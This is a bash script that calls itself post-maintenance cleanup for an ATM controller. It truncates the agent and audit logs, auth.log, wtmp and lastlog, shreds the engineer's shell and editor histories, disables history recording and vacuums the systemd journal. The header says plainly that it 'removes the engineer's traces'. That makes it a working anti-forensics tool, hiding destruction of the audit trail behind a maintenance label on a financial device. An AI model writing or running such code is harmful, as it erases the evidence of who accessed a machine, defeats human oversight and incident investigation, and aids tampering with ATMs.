#!/usr/bin/env bash
# post_maint_cleanup.sh - tidy an ATM controller after a field visit.
#
# Removes the engineer's traces: shell history, the controller's agent and
# audit logs, and the systemd journal, so the next visit "starts clean".
#
# Usage: post_maint_cleanup.sh [-l logdir] [-k]   (-k keeps a local summary)

set -uo pipefail

LOG_DIR="/var/log/atm-agent"
KEEP_SUMMARY=0
SUMMARY="./cleanup_summary.txt"

note() { echo "[cleanup] $*" >&2; }

while getopts ":l:kh" opt; do
    case "$opt" in
        l) LOG_DIR="$OPTARG" ;;
        k) KEEP_SUMMARY=1 ;;
        h|*) sed -n '2,8p' "$0"; exit 0 ;;
    esac
done

targets() {
    # python builds the list so globbing of rotated logs is handled in one place
    TARGET_DIRS="$LOG_DIR:/var/log/audit" python3 -c '
import glob, os
seen = []
for d in os.environ["TARGET_DIRS"].split(":"):
    for pattern in ("*.log", "*.log.*", "audit.log*"):
        for path in sorted(glob.glob(os.path.join(d, pattern))):
            if path not in seen and os.path.isfile(path):
                seen.append(path)
for extra in ("/var/log/auth.log", "/var/log/wtmp", "/var/log/lastlog"):
    if os.path.isfile(extra):
        seen.append(extra)
print("\n".join(seen))
'
}

wipe_file() {
    local f="$1"
    if [[ -w "$f" ]]; then
        : > "$f" && note "truncated $f"
        return 0
    fi
    note "no write access to $f"
    return 1
}

wipe_history() {
    local h
    for h in "$HOME/.bash_history" "$HOME/.zsh_history" "$HOME/.python_history" \
             "$HOME/.lesshst" "$HOME/.viminfo"; do
        [[ -e "$h" ]] || continue
        shred -u "$h" 2>/dev/null || rm -f "$h"
        note "removed $h"
    done
    history -c 2>/dev/null || true
    export HISTFILE=/dev/null
    unset HISTFILE
}

vacuum_journal() {
    if command -v journalctl >/dev/null 2>&1; then
        journalctl --rotate >/dev/null 2>&1 || true
        journalctl --vacuum-time=1s >/dev/null 2>&1 && note "journal vacuumed"
    fi
}

main() {
    local list f wiped=0 failed=0
    list="$(targets)"
    while IFS= read -r f; do
        [[ -z "$f" ]] && continue
        if wipe_file "$f"; then
            wiped=$((wiped + 1))
        else
            failed=$((failed + 1))
        fi
    done <<< "$list"
    wipe_history
    vacuum_journal
    note "$wiped log file(s) cleared, $failed skipped"
    if [[ "$KEEP_SUMMARY" -eq 1 ]]; then
        printf '%s cleared=%d skipped=%d\n' "$(date -u +%FT%TZ)" "$wiped" "$failed" >> "$SUMMARY"
    fi
}

main
